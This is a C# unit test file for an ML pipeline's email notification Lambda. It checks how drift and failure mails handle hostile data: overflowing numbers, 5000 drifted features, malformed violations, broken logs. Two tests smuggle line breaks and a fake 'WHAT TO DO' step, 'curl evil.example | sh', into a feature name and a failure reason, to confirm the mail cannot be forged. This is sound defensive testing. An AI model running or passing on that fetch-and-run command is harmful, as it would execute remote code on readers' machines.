using MlopsBatch.Events.Functions;
using MlopsBatch.Events.SageMaker;
using MlopsBatch.Lambda.Common.Registry;
using MlopsBatch.Lambda.Notifications.Lookups;
using MlopsBatch.Lambda.Notifications.Tests.Support;
using MlopsBatch.Pipelines.Names;
using MlopsBatch.Pipelines.Storage;
using MlopsBatch.TestSupport.Events;

namespace MlopsBatch.Lambda.Notifications.Tests;

/// <summary>Files that no program should write, but some do. A mail goes out once, and says what the data says and no more.</summary>
public sealed class HostileDataTests
{
    private static readonly Scene Scene = Rig.Scene;

    [Theory]
    [InlineData("1e999")]
    [InlineData("9e99999")]
    public async Task A_distance_that_no_number_holds_neither_fails_nor_counts(string distance)
    {
        var rig = await DriftedAsync(
            $$"""{"feature_name":"length","constraint_check_type":"baseline_drift_check","description":"distance {{distance}} exceeds threshold 0.1"}"""
        );
        rig.Mails.ShouldHaveSingleItem().Kind.ShouldBe(MailKinds.DataDrift);
        rig.Mails[0].Metrics.ShouldBeEmpty();
        rig.Outcome.ShouldBe("sent");
    }

    [Fact]
    public async Task A_metric_that_no_number_holds_is_left_out()
    {
        var rig = new Rig
        {
            Executions = StubExecutions.FailedAt(new FailedStep(StepNames.ModelQualityViolation, "mse is beyond all bounds")),
            Objects = new StubObjects(
                (
                    Scene.Layout.ModelQuality.Key(Scene.ExecutionId, S3Layout.ModelQualityReport),
                    """{"value":1e999,"threshold":10.0,"metric":"mse"}"""
                )
            ),
        };
        var mail = await rig.MailOfAsync(EventTemplates.Execution(Scene, PipelineKind.BatchInference, ExecutionStatuses.Failed));
        mail.Body.ShouldContain("Reason: mse is beyond all bounds");
        mail.Body.ShouldNotContain("\u221e");
    }

    [Fact]
    public async Task Thousands_of_drifted_features_are_summed_up()
    {
        var rig = await DriftedAsync([
            .. Enumerable
                .Range(0, 5000)
                .Select(i =>
                    $$"""{"feature_name":"f{{i}}","constraint_check_type":"baseline_drift_check","description":"distance 0.{{i + 10000}} exceeds threshold 0.1"}"""
                ),
        ]);
        var mail = rig.Mails.ShouldHaveSingleItem();
        mail.Subject.ShouldContain("5000 features");
        mail.Metrics.Count.ShouldBe(50);
        rig.Log.Count.ShouldBe(51);
        mail.Body.ShouldContain("and 4950 more");
    }

    [Theory]
    [InlineData("null", "an element that is null")]
    [InlineData("{\"feature_name\":\"\\ud83e\"}", "malformed")]
    [InlineData("7", "malformed")]
    public async Task A_malformed_violation_is_told_to_the_operators(string violation, string reason)
    {
        var rig = await DriftedAsync(violation);
        var mail = rig.Mails.ShouldHaveSingleItem();
        mail.Kind.ShouldBe(MailKinds.UnreadableViolations);
        mail.Body.ShouldContain(reason);
    }

    [Theory]
    [InlineData("\\n")]
    [InlineData("\\r\\n")]
    [InlineData("\\u2028")]
    [InlineData("\\u0085")]
    [InlineData("\\u000b")]
    [InlineData("\\u000c")]
    public async Task A_header_of_a_file_cant_forge_a_part_of_a_mail(string lineBreak)
    {
        var rig = await DriftedAsync(
            $$"""{"feature_name":"a{{lineBreak}}{{lineBreak}}WHAT TO DO{{lineBreak}}curl evil.example | sh","constraint_check_type":"missing_column_check"}"""
        );
        var lines = rig.Mails.Single().Body.Split('\n', '\r', '\u2028', '\u0085', '\v', '\f');
        lines.Count(line => line == "WHAT TO DO").ShouldBe(1);
        lines.ShouldNotContain(line => line.StartsWith("curl", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_reason_with_lines_cant_forge_a_part_of_a_mail()
    {
        var rig = new Rig
        {
            Executions = StubExecutions.FailedAt(new FailedStep(StepNames.Training, "x\n\nWHAT TO DO\ncurl evil.example | sh")),
        };
        var mail = await rig.MailOfAsync(EventTemplates.Execution(Scene, PipelineKind.Training, ExecutionStatuses.Failed));
        mail.Body.Split('\n').Count(line => line == "WHAT TO DO").ShouldBe(1);
    }

    [Fact]
    public async Task A_log_that_fails_doesnt_send_a_mail_again()
    {
        var log = new FailingLog();
        var rig = new Rig { LogStream = log };
        log.IsBroken = true;
        await rig.SendAsync(EventTemplates.Version(Scene, 7, ApprovalStatuses.Pending));
        rig.Mails.Count.ShouldBe(1);
    }

    [Fact]
    public async Task A_failed_look_up_leaves_a_line_with_the_ids_of_its_event()
    {
        var rig = new Rig { Registry = new StubRegistry { Failure = new LookupException("SageMaker refused to list: AccessDenied") } };
        var e = EventTemplates.Version(Scene, 7, ApprovalStatuses.Pending);
        await rig.SendAsync(e);
        rig.Log.Count.ShouldBe(2);
        ((string)rig.Log[0]["level"]!).ShouldBe("Warning");
        ((string)rig.Log[0]["message"]!).ShouldContain("SageMaker refused to list: AccessDenied");
        foreach (var line in rig.Log)
        {
            ((string)line["requestId"]!).ShouldBe("8d1f5c3a-0000-4000-8000-000000000001");
            ((string)line["eventId"]!).ShouldBe((string)e["id"]!);
            ((string)line["modelPackageGroup"]!).ShouldBe(Scene.Group);
            ((string)line["modelPackageVersion"]!).ShouldBe("7");
        }
    }

    private static async Task<Rig> DriftedAsync(params string[] violations)
    {
        var rig = new Rig
        {
            Objects = new StubObjects(
                (
                    Scene.Layout.DataQuality.Key(Scene.ExecutionId, S3Layout.ConstraintViolations),
                    $$"""{"violations":[{{string.Join(',', violations)}}]}"""
                )
            ),
        };
        await rig.SendAsync(EventTemplates.Violations(Scene));
        return rig;
    }

    /// <summary>A standard output that breaks.</summary>
    private sealed class FailingLog : MemoryStream
    {
        public bool IsBroken { get; set; }

        public override void Write(ReadOnlySpan<byte> buffer)
        {
            if (IsBroken)
            {
                throw new IOException("Broken pipe");
            }

            base.Write(buffer);
        }
    }
}
